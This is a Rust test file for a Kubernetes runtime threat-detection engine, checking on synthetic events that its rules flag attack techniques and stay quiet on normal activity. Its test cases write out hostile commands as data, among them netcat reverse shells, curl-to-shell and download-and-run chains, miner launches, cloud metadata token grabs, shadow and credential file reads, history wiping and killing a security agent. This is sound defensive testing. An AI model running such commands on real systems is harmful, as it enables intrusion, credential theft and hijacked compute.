//! The shipped runtime rules on synthetic sensor events: each technique raises its alert,
//! ordinary activity raises none, and sequence captures link the right events.

use std::sync::Arc;

use kdr_engine::{AlertEvent, Engine};
use kdr_intel::IndicatorSet;
use kdr_model::{
    AddressFamily, Ancestor, Context, Event, FdKind, Payload, Process, RuntimeAction, RuntimeEvent,
    SocketAddress, Timestamp,
};

const CID: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

struct P<'a> {
    exe: &'a str,
    args: &'a [&'a str],
    parents: &'a [(&'a str, &'a [&'a str])],
    stdio: [FdKind; 3],
    pid: u32,
    ppid: u32,
    upper: bool,
}

fn p<'a>(exe: &'a str, args: &'a [&'a str]) -> P<'a> {
    P {
        exe,
        args,
        parents: &[("/bin/sh", &["sh"])],
        stdio: [FdKind::Pipe, FdKind::Pipe, FdKind::Pipe],
        pid: 100,
        ppid: 10,
        upper: false,
    }
}

fn event(n: i64, proc_: &P<'_>, action: RuntimeAction, container: bool) -> Event {
    let comm = proc_
        .args
        .first()
        .map(|a| a.rsplit('/').next().unwrap())
        .unwrap_or("x");
    Event {
        id: format!("node:1:{n}"),
        time: Timestamp(1_700_000_000_000_000_000 + n * 1_000_000),
        context: Context {
            node: Some("node-a".into()),
            container_id: container.then(|| CID.to_string()),
            pod: container.then(|| "web-1".to_string()),
            namespace: container.then(|| "shop".to_string()),
            image: container.then(|| "registry.test/shop/web:1".to_string()),
            ..Context::default()
        },
        payload: Payload::Runtime(Box::new(RuntimeEvent {
            process: Process {
                pid: proc_.pid,
                tgid: proc_.pid,
                ppid: proc_.ppid,
                comm: comm.chars().take(15).collect(),
                exe: proc_.exe.to_string(),
                args: proc_.args.iter().map(|s| s.to_string()).collect(),
                stdio: proc_.stdio,
                ancestors: proc_
                    .parents
                    .iter()
                    .enumerate()
                    .map(|(i, (exe, args))| Ancestor {
                        pid: proc_.ppid - i as u32,
                        exe: exe.to_string(),
                        args: args.iter().map(|s| s.to_string()).collect(),
                    })
                    .collect(),
                exe_upper_layer: proc_.upper,
                ..Process::default()
            },
            container_privileged: container.then_some(false),
            image_id: None,
            cgroup_id: 0,
            mnt_ns: 0,
            action,
        })),
    }
}

fn open(path: &str, flags: u32) -> RuntimeAction {
    RuntimeAction::Open {
        path: path.into(),
        flags,
        result: 3,
    }
}

fn connect(ip: &str, port: u16) -> RuntimeAction {
    RuntimeAction::Connect {
        remote: SocketAddress {
            family: if ip.contains(':') {
                AddressFamily::Inet6
            } else {
                AddressFamily::Inet
            },
            address: ip.into(),
            port,
        },
        local: None,
        result: 0,
    }
}

const O_WRONLY_CREAT_TRUNC: u32 = 0o1101;

fn engine() -> Engine {
    let mut intel = IndicatorSet::shipped();
    intel.load(
        "test",
        "malware.test malware-source\n198.51.100.7 mining-pool\n",
    );
    Engine::new(Arc::new(kdr_rules::load(&[]).unwrap()), intel)
}

fn alerts(events: &[Event]) -> Vec<String> {
    let mut engine = engine();
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    engine.flush(&mut out);
    let mut types: Vec<String> = out
        .into_iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) => Some(a.alert_type),
            _ => None,
        })
        .collect();
    types.sort();
    types.dedup();
    types
}

/// The reasons of the alerts opened on `events`.
fn reasons(events: &[Event]) -> Vec<String> {
    let mut engine = engine();
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    out.into_iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) => Some(a.reason),
            _ => None,
        })
        .collect()
}

fn exec(n: i64, proc_: &P<'_>) -> Event {
    event(n, proc_, RuntimeAction::Exec, true)
}

fn assert_raises(what: &str, events: &[Event], alert: &str) {
    let got = alerts(events);
    assert!(
        got.iter().any(|a| a == alert),
        "{what}: expected {alert}, got {got:?}"
    );
}

#[test]
fn intel_verdicts_remembered_per_program_stay_exact() {
    // The same program twice (other pids), one naming no pool, one naming another pool:
    // each judged as a fresh lookup would.
    let listed = p("/opt/svc", &["svc", "-o", "pool.supportxmr.com:443"]);
    let again = P {
        pid: 101,
        ..p("/opt/svc", &["svc", "-o", "pool.supportxmr.com:443"])
    };
    let clean = p("/opt/svc", &["svc", "-o", "example.org:443"]);
    let other = p("/opt/svc", &["svc", "-o", "198.51.100.7:3333"]);
    let mut engine = engine();
    let mut out = Vec::new();
    // A program is remembered from its second event on: each is seen at least three times.
    for (n, proc_) in [
        &listed, &again, &again, &clean, &other, &clean, &clean, &other, &other,
    ]
    .into_iter()
    .enumerate()
    {
        engine.process(&exec(n as i64, proc_), &mut out);
    }
    engine.flush(&mut out);
    let pools: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Closed(a) if a.rule == "Mining pool named on the command line" => Some(a),
            _ => None,
        })
        .collect();
    assert_eq!(pools.len(), 1, "{pools:?}");
    assert_eq!(pools[0].count, 6);
    assert!(
        pools[0].reason.contains("supportxmr"),
        "{}",
        pools[0].reason
    );
    assert!(
        pools[0].reason.contains("198.51.100.7"),
        "{}",
        pools[0].reason
    );
    assert_eq!(engine.stats().program_hits, 3);
}

/// Verdicts on a per-event address are remembered per value: a listed address is found
/// again from another process, and an unlisted one between is never taken for it.
#[test]
fn intel_verdicts_remembered_per_address_stay_exact() {
    let svc = p("/opt/svc", &["svc"]);
    let other = P {
        pid: 101,
        ..p("/usr/bin/python3", &["python3", "w.py"])
    };
    let mut engine = engine();
    let mut out = Vec::new();
    let connects = [
        (&svc, "198.51.100.7"),
        (&svc, "198.51.100.8"),
        (&other, "198.51.100.7"),
        (&other, "198.51.100.8"),
    ];
    for (n, (proc_, ip)) in connects.into_iter().enumerate() {
        engine.process(&event(n as i64, proc_, connect(ip, 3333), true), &mut out);
    }
    engine.flush(&mut out);
    let pools: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Closed(a) if a.rule == "Connection to a mining pool" => Some(a),
            _ => None,
        })
        .collect();
    assert_eq!(pools.len(), 1, "{pools:?}");
    assert_eq!(pools[0].count, 2);
    assert_eq!(pools[0].evidence, ["node:1:0", "node:1:2"]);
    // Each rule remembers its own category's verdicts: the pool is no malware source.
    assert!(!out.iter().any(|a| matches!(a,
        AlertEvent::Opened(a) if a.rule == "Connection to a malware source")));
    assert!(
        pools[0].reason.contains("198.51.100.7") && !pools[0].reason.contains("198.51.100.8"),
        "{}",
        pools[0].reason
    );
}

#[test]
fn every_runtime_alert_type_has_a_rule() {
    let rules = kdr_rules::load(&[]).unwrap();
    for (index, alert) in rules.catalog.iter().enumerate() {
        if alert.plane != kdr_model::Plane::Runtime {
            continue;
        }
        assert!(
            rules.rules.iter().any(|r| r.alert_type == index),
            "no rule raises {}",
            alert.id
        );
    }
}

#[test]
fn process_techniques() {
    let sh_socket = P {
        stdio: [FdKind::Socket; 3],
        parents: &[(
            "/bin/busybox",
            &["nc", "127.0.0.1", "4444", "-e", "/bin/sh"],
        )],
        ..p("/bin/busybox", &["/bin/sh"])
    };
    let cases: Vec<(&str, Vec<Event>, &str)> = vec![
        ("reverse shell", vec![exec(1, &sh_socket)], "K8S.NODE_ReverseShell"),
        (
            "nc -e",
            vec![exec(1, &p("/bin/busybox", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]))],
            "K8S.NODE_ReverseShell",
        ),
        (
            "miner args on a renamed binary",
            vec![exec(1, &p("/opt/svc", &["svc", "-o", "stratum+tcp://198.51.100.7:3333", "--donate-level", "1"]))],
            "K8S.NODE_CryptoCoinMinerExecution",
        ),
        (
            "pool from intel",
            vec![exec(1, &p("/opt/svc", &["svc", "-o", "pool.supportxmr.com:443"]))],
            "K8S.NODE_DigitalCurrencyMining",
        ),
        ("miner binary", vec![exec(1, &p("/opt/xmrig", &["xmrig"]))], "K8S.NODE_CryptoCoinMinerArtifacts"),
        (
            "busybox wget of a miner",
            vec![exec(1, &p("/bin/busybox", &["wget", "http://198.51.100.9/xmrig-6.21.0-linux-static-x64.tar.gz"]))],
            "K8S.NODE_CryptoCoinMinerDownload",
        ),
        ("nmap", vec![exec(1, &p("/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"]))], "K8S.NODE_NetworkScanningTool"),
        (
            "docker ps",
            vec![exec(1, &p("/usr/bin/docker", &["docker", "ps", "-a"]))],
            "K8S.NODE_ContainerDiscovery",
        ),
        (
            "docker API over a unix socket",
            vec![exec(1, &p("/usr/bin/curl", &["curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"]))],
            "K8S.NODE_ContainerDiscovery",
        ),
        (
            "ctr list",
            vec![exec(1, &p("/usr/bin/ctr", &["ctr", "-n", "k8s.io", "containers", "list"]))],
            "K8S.NODE_ContainerDiscovery",
        ),
        (
            "web shell",
            vec![exec(1, &P { parents: &[("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"])], ..p("/bin/dash", &["sh", "-c", "id"]) })],
            "K8S.NODE_Webshell",
        ),
        (
            "web shell activity",
            vec![exec(1, &P { parents: &[("/bin/dash", &["sh", "-c", "id"]), ("/usr/sbin/nginx", &["nginx: worker process"])], ..p("/usr/bin/id", &["id"]) })],
            "K8S.NODE_WebShellActivity",
        ),
        (
            "imds token on the command line",
            vec![exec(1, &p("/usr/bin/curl", &["curl", "-H", "Metadata: true", "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"]))],
            "K8S.NODE_ImdsCall",
        ),
        (
            "gcp metadata",
            vec![exec(1, &p("/usr/bin/curl", &["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]))],
            "K8S.NODE_ImdsCall",
        ),
        ("imds connect v6", vec![event(1, &p("/usr/bin/curl", &["curl"]), connect("fd00:ec2::254", 80), true)], "K8S.NODE_ImdsCall"),
        ("drift", vec![exec(1, &P { upper: true, ..p("/tmp/x", &["/tmp/x"]) })], "K8S.NODE_DriftBinaryExecution"),
        ("sshd", vec![exec(1, &p("/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]))], "K8S.NODE_ContainerSSH"),
        ("log4shell", vec![exec(1, &p("/bin/busybox", &["echo", "${jndi:ldap://x/a}"]))], "K8S.NODE_ExploitAttempt"),
        ("shellshock", vec![exec(1, &p("/bin/bash", &["bash", "-c", "() { :; }; id"]))], "K8S.NODE_ExploitAttempt"),
        ("touch -r", vec![exec(1, &p("/bin/busybox", &["touch", "-r", "/bin/ls", "/tmp/x"]))], "K8S.NODE_TimestampTampering"),
        ("hugepages", vec![exec(1, &p("/sbin/sysctl", &["sysctl", "-w", "vm.nr_hugepages=1280"]))], "K8S.NODE_CpuOptimization"),
        ("modprobe msr", vec![exec(1, &p("/sbin/modprobe", &["modprobe", "msr"]))], "K8S.NODE_CpuOptimization"),
        ("secret grep", vec![exec(1, &p("/bin/grep", &["grep", "-ri", "password", "/etc"]))], "K8S.NODE_SecretReconnaissance"),
        ("find pem", vec![exec(1, &p("/usr/bin/find", &["find", "/", "-name", "*.pem"]))], "K8S.NODE_SecretReconnaissance"),
        (
            "privileged docker run",
            vec![exec(1, &p("/usr/bin/docker", &["docker", "run", "--privileged", "alpine"]))],
            "K8S.NODE_PrivilegedContainerArtifacts",
        ),
        ("docker build", vec![exec(1, &p("/usr/bin/docker", &["docker", "build", "-t", "x", "."]))], "K8S.NODE_ImageBuildOnNode"),
        ("useradd uid 0", vec![exec(1, &p("/usr/sbin/useradd", &["useradd", "-o", "-u", "0", "x"]))], "K8S.NODE_SuspectUserAddition"),
        ("chpasswd -e", vec![exec(1, &p("/usr/sbin/chpasswd", &["chpasswd", "-e"]))], "K8S.NODE_SuspectPasswordChange"),
        (
            "ssh -R to public",
            vec![exec(1, &p("/usr/bin/ssh", &["ssh", "-N", "-R", "9000:127.0.0.1:22", "u@203.0.113.10"]))],
            "K8S.NODE_SuspectPortForwarding",
        ),
        ("ssh -D", vec![exec(1, &p("/usr/bin/ssh", &["ssh", "-D", "1080", "u@host"]))], "K8S.NODE_SuspectConnection"),
        ("socks port", vec![event(1, &p("/usr/bin/app", &["app"]), connect("10.1.2.3", 1080), true)], "K8S.NODE_SuspectConnection"),
        (
            "timer",
            vec![exec(1, &p("/bin/systemctl", &["systemctl", "stop", "apt-daily-upgrade.timer"]))],
            "K8S.NODE_TimerServiceDisabled",
        ),
        ("bot", vec![exec(1, &p("/tmp/kx.x86", &["./kx.x86"]))], "K8S.NODE_CommonBot"),
        ("ddos", vec![exec(1, &p("/tmp/gates.lod", &["gates.lod"]))], "K8S.NODE_KnownLinuxDDoSToolkit"),
        ("cdk", vec![exec(1, &p("/tmp/cdk", &["cdk", "evaluate"]))], "K8S.NODE_KnownLinuxAttackTool"),
        ("linpeas", vec![exec(1, &p("/bin/bash", &["bash", "/tmp/linpeas.sh"]))], "K8S.NODE_KnownLinuxAttackTool"),
        ("mimipenguin", vec![exec(1, &p("/bin/bash", &["bash", "./mimipenguin.sh"]))], "K8S.NODE_KnownLinuxCredentialAccessTool"),
        (
            "caldera",
            vec![exec(1, &p("/tmp/splunkd", &["./splunkd", "-server", "http://10.0.0.9:8888", "-group", "red"]))],
            "K8S.NODE_MitreCalderaTools",
        ),
        ("nohup hidden", vec![exec(1, &p("/usr/bin/nohup", &["nohup", "/tmp/.x/.bot"]))], "K8S.NODE_SuspectNohup"),
        ("download to hidden tmp", vec![exec(1, &p("/usr/bin/wget", &["wget", "-O", "/tmp/.p", "http://x.test/p"]))], "K8S.NODE_SuspectDownloadArtifacts"),
        ("malware source", vec![exec(1, &p("/usr/bin/curl", &["curl", "-O", "http://malware.test/p"]))], "K8S.NODE_SuspectDownload"),
        ("kubectl in pod", vec![exec(1, &p("/usr/local/bin/kubectl", &["kubectl", "get", "secrets"]))], "K8S.NODE_KubernetesAPI"),
        (
            "dashboard",
            vec![exec(1, &p("/usr/bin/curl", &["curl", "http://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/login"]))],
            "K8S.NODE_KubernetesDashboard",
        ),
        ("kill agent by name", vec![exec(1, &p("/usr/bin/pkill", &["pkill", "falco"]))], "K8S.NODE_SuspectProcessTermination"),
        ("test alert", vec![exec(1, &p("/bin/sh", &["sh", "-c", "echo KDR-RUNTIME-TEST-ALERT-3f6c1a9e"]))], "K8S.NODE_EICAR"),
    ];
    for (what, events, alert) in cases {
        assert_raises(what, &events, alert);
    }
}

#[test]
fn file_and_kernel_techniques() {
    let sh = p("/bin/busybox", &["sh", "-c", ": > /root/.ash_history"]);
    let cat = |path: &'static str| p("/bin/busybox", Box::leak(Box::new(["cat", path])));
    let cases: Vec<(&str, Event, &str)> = vec![
        ("history truncated", event(1, &sh, open("/root/.ash_history", O_WRONLY_CREAT_TRUNC), true), "K8S.NODE_HistoryFileCleared"),
        ("history removed", event(1, &sh, RuntimeAction::Unlink { path: "/root/.bash_history".into() }, true), "K8S.NODE_HistoryFileCleared"),
        ("wtmp truncated", event(1, &sh, open("/var/log/wtmp", O_WRONLY_CREAT_TRUNC), true), "K8S.NODE_SystemLogRemoval"),
        ("shadow read", event(1, &cat("/etc/shadow"), open("/etc/shadow", 0), true), "K8S.NODE_SuspectPasswordFileAccess"),
        ("kubelet conf", event(1, &cat("/etc/kubernetes/kubelet.conf"), open("/etc/kubernetes/kubelet.conf", 0), false), "K8S.NODE_KubeConfigAccess"),
        ("aws creds", event(1, &cat("/root/.aws/credentials"), open("/root/.aws/credentials", 0), true), "K8S.NODE_SensitiveFilesAccess"),
        (
            "other pod token",
            event(1, &cat("x"), open("/var/lib/kubelet/pods/123/volumes/kubernetes.io~projected/kube-api-access-x/token", 0), false),
            "K8S.NODE_SensitiveFilesAccess",
        ),
        ("authorized_keys append", event(1, &sh, open("/root/.ssh/authorized_keys", 0o2101), true), "K8S.NODE_SshKeyAccess"),
        ("preload write", event(1, &sh, open("/etc/ld.so.preload", O_WRONLY_CREAT_TRUNC), true), "K8S.NODE_LdSoPreloadAccess"),
        ("preload read", event(1, &cat("/etc/ld.so.preload"), open("/etc/ld.so.preload", 0), true), "K8S.NODE_LdSoPreloadAccess"),
        ("hugepages write", event(1, &sh, open("/proc/sys/vm/nr_hugepages", 0o1001), true), "K8S.NODE_CpuOptimization"),
        ("cron backdated", event(1, &p("/bin/busybox", &["touch", "-d", "2020-01-01", "/etc/cron.d/x"]), RuntimeAction::Utimes { path: "/etc/cron.d/x".into() }, true), "K8S.NODE_TimestampTampering"),
        ("unshare", event(1, &p("/bin/busybox", &["unshare", "-U"]), RuntimeAction::Unshare { flags: 0x1000_0000 }, true), "K8S.NODE_NamespaceCreation"),
        (
            "kill falco",
            event(1, &p("/bin/busybox", &["kill", "42"]), RuntimeAction::Kill { signal: 9, target_pid: 42, target_exe: Some("/usr/bin/falco".into()) }, false),
            "K8S.NODE_SuspectProcessTermination",
        ),
        ("mining pool connect", event(1, &p("/opt/a", &["a"]), connect("198.51.100.7", 3333), true), "K8S.NODE_DigitalCurrencyMining"),
        ("ddos file", event(1, &sh, open("/tmp/moni.lod", 0o101), true), "K8S.NODE_KnownLinuxDDoSToolkit"),
    ];
    for (what, e, alert) in cases {
        assert_raises(what, &[e], alert);
    }
}

#[test]
fn sequences_link_download_and_run_by_captured_path() {
    let wget = p(
        "/bin/busybox",
        &["wget", "-O", "/tmp/p", "http://10.0.0.9/p"],
    );
    let created = event(1, &wget, open("/tmp/p", 0o1101), true);
    let chmod = exec(2, &p("/bin/busybox", &["chmod", "+x", "/tmp/p"]));
    let run = exec(
        3,
        &P {
            pid: 101,
            ..p("/tmp/p", &["/tmp/p"])
        },
    );
    let other = exec(
        3,
        &P {
            pid: 101,
            ..p("/tmp/q", &["/tmp/q"])
        },
    );
    assert_raises(
        "download then run",
        &[created.clone(), chmod.clone(), run.clone()],
        "K8S.NODE_DownloadAndRunCombo",
    );
    // Another file run after the download is not the downloaded one.
    assert!(!alerts(&[created.clone(), chmod, other])
        .contains(&"K8S.NODE_DownloadAndRunCombo".to_string()));
    // Order matters: running first, downloading later is not the technique.
    assert!(!alerts(&[run.clone(), created.clone()])
        .contains(&"K8S.NODE_DownloadAndRunCombo".to_string()));
    // Persistence after the run: backdoor.
    let cron = event(
        4,
        &p("/bin/busybox", &["sh"]),
        open("/etc/cron.d/job", 0o101),
        true,
    );
    assert_raises(
        "backdoor",
        &[created, run, cron],
        "K8S.NODE_LinuxBackdoorArtifact",
    );

    // curl | sh: siblings under one shell, in either order.
    let curl = P {
        stdio: [FdKind::Pipe, FdKind::Pipe, FdKind::Pipe],
        pid: 200,
        ppid: 50,
        ..p("/usr/bin/curl", &["curl", "-s", "http://10.0.0.9/i.sh"])
    };
    let shell = P {
        pid: 201,
        ppid: 50,
        ..p("/bin/bash", &["bash"])
    };
    assert_raises(
        "curl|sh",
        &[exec(1, &curl), exec(2, &shell)],
        "K8S.NODE_DownloadAndRunCombo",
    );
    assert_raises(
        "sh first",
        &[exec(1, &shell), exec(2, &curl)],
        "K8S.NODE_DownloadAndRunCombo",
    );
    // `curl | python3 -c '...json...'` parses, it does not run the download.
    let parse = P {
        pid: 201,
        ppid: 50,
        ..p("/usr/bin/python3", &["python3", "-c", "import json,sys"])
    };
    assert!(!alerts(&[exec(1, &curl), exec(2, &parse)])
        .contains(&"K8S.NODE_DownloadAndRunCombo".to_string()));
}

#[test]
fn bursts_of_recon_and_connections() {
    let names = ["id", "whoami", "uname", "hostname", "ps"];
    let events: Vec<Event> = names
        .iter()
        .enumerate()
        .map(|(i, n)| exec(i as i64, &p("/bin/busybox", Box::leak(Box::new([*n])))))
        .collect();
    assert_raises("recon", &events, "K8S.NODE_ReconnaissanceArtifactsBurst");
    // Each value is every name of the command (busybox and the applet).
    let applets = "busybox, hostname, busybox, id, busybox, ps, busybox, uname, busybox, whoami";
    let recon = format!("; 5 distinct: {applets}");
    assert!(
        reasons(&events).iter().any(|r| r.ends_with(&recon)),
        "{:?}",
        reasons(&events)
    );
    // The same command many times is not a burst of distinct commands.
    let same: Vec<Event> = (0..10)
        .map(|i| exec(i, &p("/bin/busybox", &["id"])))
        .collect();
    assert!(!alerts(&same).contains(&"K8S.NODE_ReconnaissanceArtifactsBurst".to_string()));
    let scan: Vec<Event> = (0..25)
        .map(|i| {
            event(
                i,
                &p("/usr/bin/python3", &["python3", "s.py"]),
                connect("127.0.0.1", 1000 + i as u16),
                true,
            )
        })
        .collect();
    assert_raises("connect sweep", &scan, "K8S.NODE_NetworkScanningTool");
    // The sample lists the distinct destinations, address and port apart.
    let sample: Vec<String> = (1000..1020)
        .map(|port| format!("127.0.0.1 {port}"))
        .collect();
    let sweep = format!("; 20 distinct: {}", sample.join(", "));
    assert!(
        reasons(&scan).iter().any(|r| r.ends_with(&sweep)),
        "{:?}",
        reasons(&scan)
    );
}

#[test]
fn ordinary_activity_is_quiet() {
    let nginx = P {
        parents: &[("/usr/sbin/nginx", &["nginx: master process"])],
        ..p("/usr/sbin/nginx", &["nginx: worker process"])
    };
    let events = vec![
        exec(1, &p("/bin/busybox", &["sh", "-c", "/app/start.sh"])),
        exec(2, &nginx),
        exec(
            3,
            &p(
                "/usr/bin/curl",
                &["curl", "-fsS", "http://127.0.0.1:8080/healthz"],
            ),
        ),
        exec(4, &p("/bin/busybox", &["cat", "/tmp/app.conf"])),
        exec(
            5,
            &P {
                parents: &[
                    ("/usr/bin/apt-get", &["apt-get", "install", "-y", "jq"]),
                    ("/usr/bin/dpkg", &["dpkg"]),
                ],
                ..p("/usr/sbin/adduser", &["adduser", "--system", "svc"])
            },
        ),
        event(
            6,
            &p("/app/server", &["server"]),
            open("/tmp/cache.db", 0o102),
            true,
        ),
        event(
            7,
            &p("/bin/bash", &["bash"]),
            open("/root/.bash_history", O_WRONLY_CREAT_TRUNC),
            true,
        ),
        event(
            8,
            &p("/app/server", &["server"]),
            connect("10.96.0.10", 53),
            true,
        ),
        event(
            9,
            &p("/usr/bin/kubelet", &["kubelet"]),
            open("/var/lib/kubelet/pods/1/volumes/x/token", 0),
            false,
        ),
        event(
            10,
            &p("/usr/bin/kubelet", &["kubelet"]),
            open("/etc/kubernetes/kubelet.conf", 0),
            false,
        ),
        exec(11, &p("/bin/busybox", &["uname", "-m"])),
        exec(12, &p("/bin/busybox", &["id", "-u"])),
    ];
    assert_eq!(alerts(&events), Vec::<String>::new());
}

#[test]
fn capture_errors_are_located() {
    let mut set = kdr_rules::RuleSet::embedded().unwrap();
    let errors = set.load_str(
        "x.yaml",
        "- rule: bad\n  alert: K8S.NODE_DownloadAndRunCombo\n  source: runtime\n  kind: sequence\n  key: [container.id]\n  window: 1m\n  steps:\n    - condition: evt.type = exec and proc.exepath = $file\n",
    );
    assert!(errors.is_empty());
    let err = kdr_rules::Rules::compile(&set).unwrap_err();
    assert!(
        err[0].message.contains("`$file` is not captured"),
        "{err:?}"
    );
}

/// What a program (event type and process, pids aside) is remembered across events: later
/// events of the same program are still judged on everything else, and a program that
/// differs in its lineage alone is another program.
#[test]
fn programs_seen_before_are_judged_on_what_differs() {
    let cat = p("/bin/cat", &["cat", "/etc/app.conf"]);
    let quiet_open = event(1, &cat, open("/etc/app.conf", 0), true);
    let shadow = event(2, &cat, open("/etc/shadow", 0), true);
    assert_eq!(
        alerts(std::slice::from_ref(&quiet_open)),
        Vec::<String>::new()
    );
    assert_eq!(
        alerts(&[quiet_open, shadow]),
        ["K8S.NODE_SuspectPasswordFileAccess"]
    );

    let shell = ["sh", "-c", "id"];
    let under_shell = p("/bin/sh", &shell);
    let under_nginx = P {
        parents: &[("/usr/sbin/nginx", &["nginx: worker process"])],
        pid: 200,
        ..p("/bin/sh", &shell)
    };
    assert_eq!(alerts(&[exec(1, &under_shell)]), Vec::<String>::new());
    let both = alerts(&[exec(1, &under_shell), exec(2, &under_nginx)]);
    assert!(both.iter().any(|a| a == "K8S.NODE_Webshell"), "{both:?}");
    // The same program again, in another process on the host: judged again, and raised
    // again for its own subject.
    let on_host = P {
        pid: 300,
        ..under_nginx
    };
    let mut engine = Engine::new(
        Arc::new(kdr_rules::load(&[]).unwrap()),
        IndicatorSet::shipped(),
    );
    let mut out = Vec::new();
    engine.process(&exec(1, &under_nginx), &mut out);
    engine.process(&event(2, &on_host, RuntimeAction::Exec, false), &mut out);
    let opened: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) if a.alert_type == "K8S.NODE_Webshell" => Some(&a.dedup_key),
            _ => None,
        })
        .collect();
    assert_eq!(opened.len(), 2, "{opened:?}");
}

/// A rule's trigger is remembered per program, so a rule that looks at what changes between
/// one program's events (here the opened path) must be visited on each of them: three user
/// rules scanning `fd.name`, and one program whose third open is the match (a program is
/// remembered from its second event on).
#[test]
fn rules_on_the_opened_path_see_every_open_of_a_program() {
    let dir = std::env::temp_dir().join(format!("kdr-path-rules-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut text = String::new();
    for word in ["alpha", "bravo", "charlie"] {
        text.push_str(&format!(
            "- rule: Opened a {word} file\n  alert: K8S.NODE_SensitiveFilesAccess\n  \
             source: runtime\n  condition: evt.type = open and fd.name contains \"{word}\"\n  \
             reason: \"%fd.name\"\n"
        ));
    }
    std::fs::write(dir.join("paths.yaml"), text).unwrap();
    let rules = kdr_rules::load(std::slice::from_ref(&dir)).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let mut engine = Engine::new(Arc::new(rules), IndicatorSet::shipped());
    let cat = p("/bin/cat", &["cat"]);
    let mut out = Vec::new();
    for time in [1, 2] {
        engine.process(
            &event(time, &cat, open("/srv/plain.txt", 0), true),
            &mut out,
        );
    }
    assert!(out.is_empty(), "{out:?}");
    engine.process(&event(3, &cat, open("/srv/bravo.txt", 0), true), &mut out);
    assert_eq!(engine.stats().program_hits, 1);
    let reasons: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) => Some(a.reason.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(reasons, ["/srv/bravo.txt"]);
}

/// No shipped rule looks at `exit` events, so the engine passes them by; a user rule on them
/// makes them visited again.
#[test]
fn event_types_without_rules_are_passed_by_until_a_rule_names_them() {
    let killed = |n| {
        event(
            n,
            &p("/opt/job", &["job"]),
            RuntimeAction::Exit { code: 137 },
            true,
        )
    };
    let mut shipped = engine();
    let mut out = Vec::new();
    shipped.process(&killed(1), &mut out);
    shipped.flush(&mut out);
    assert!(out.is_empty(), "{out:?}");
    assert_eq!(shipped.stats().program_misses, 0, "the exit was evaluated");

    let dir = std::env::temp_dir().join(format!("kdr-exit-rules-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("exit.yaml"),
        "- rule: Job killed\n  alert: K8S.NODE_SuspectProcessTermination\n  source: runtime\n  \
         condition: evt.type = exit and evt.exit.code = 137\n  reason: \"%proc.exepath\"\n",
    )
    .unwrap();
    let rules = kdr_rules::load(std::slice::from_ref(&dir)).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let mut extended = Engine::new(Arc::new(rules), IndicatorSet::shipped());
    extended.process(&killed(1), &mut out);
    let raised: Vec<_> = out
        .iter()
        .filter_map(|a| match a {
            AlertEvent::Opened(a) => Some(a.rule.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(raised, ["Job killed"]);
}

/// String comparisons on the opened path (`=`, `in`, `startswith`, `endswith`, `pmatch`,
/// `glob`) route their rules by the path's literals: each rule still sees exactly the opens
/// it matches, case and all, on every open of one long-running program.
#[test]
fn rules_routed_by_path_literals_match_exactly() {
    let dir = std::env::temp_dir().join(format!("kdr-literal-rules-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut text = String::new();
    for (name, test) in [
        ("equal", "fd.name = /srv/one/exact.key"),
        ("listed", "fd.name in (/srv/two/a.key, /srv/two/b.key)"),
        ("prefix", "fd.name startswith /srv/three/"),
        ("suffix", "fd.name endswith .vault"),
        ("tree", "fd.name pmatch (/srv/four)"),
        ("globbed", "fd.name glob \"/srv/*/five-?.pem\""),
    ] {
        text.push_str(&format!(
            "- rule: Opened {name}\n  alert: K8S.NODE_SensitiveFilesAccess\n  \
             source: runtime\n  condition: evt.type = open and {test}\n  reason: \"%fd.name\"\n  \
             dedup: [fd.name]\n"
        ));
    }
    std::fs::write(dir.join("literals.yaml"), text).unwrap();
    let rules = kdr_rules::load(std::slice::from_ref(&dir)).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let mut engine = Engine::new(Arc::new(rules), IndicatorSet::shipped());
    let server = p("/usr/sbin/fileserver", &["fileserver"]);
    let opens = [
        ("/var/cache/plain.txt", None),
        ("/var/cache/other.txt", None),
        ("/srv/one/exact.key", Some("Opened equal")),
        ("/srv/one/exact.keys", None),
        ("/SRV/ONE/EXACT.KEY", None),
        ("/srv/two/b.key", Some("Opened listed")),
        ("/srv/two/c.key", None),
        ("/srv/three/x", Some("Opened prefix")),
        ("/data/srv/three/x", None),
        ("/etc/app.vault", Some("Opened suffix")),
        ("/etc/app.vault.bak", None),
        ("/srv/four/deep/file", Some("Opened tree")),
        ("/srv/fourth", None),
        ("/srv/any/five-1.pem", Some("Opened globbed")),
        ("/srv/any/five-10.pem", None),
    ];
    let mut out = Vec::new();
    for (n, (path, expected)) in opens.iter().enumerate() {
        out.clear();
        engine.process(&event(n as i64, &server, open(path, 0), true), &mut out);
        let raised: Vec<_> = out
            .iter()
            .filter_map(|a| match a {
                AlertEvent::Opened(a) if a.rule.starts_with("Opened ") => Some(a.rule.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(
            raised,
            expected.iter().copied().collect::<Vec<_>>(),
            "{path}"
        );
    }
    assert!(engine.stats().program_hits > 10);
}

/// A sequence under way for one key is visited by the events of every key: an event whose
/// key holds no partial match yet must still start one that a later event completes, and
/// never completes another key's.
#[test]
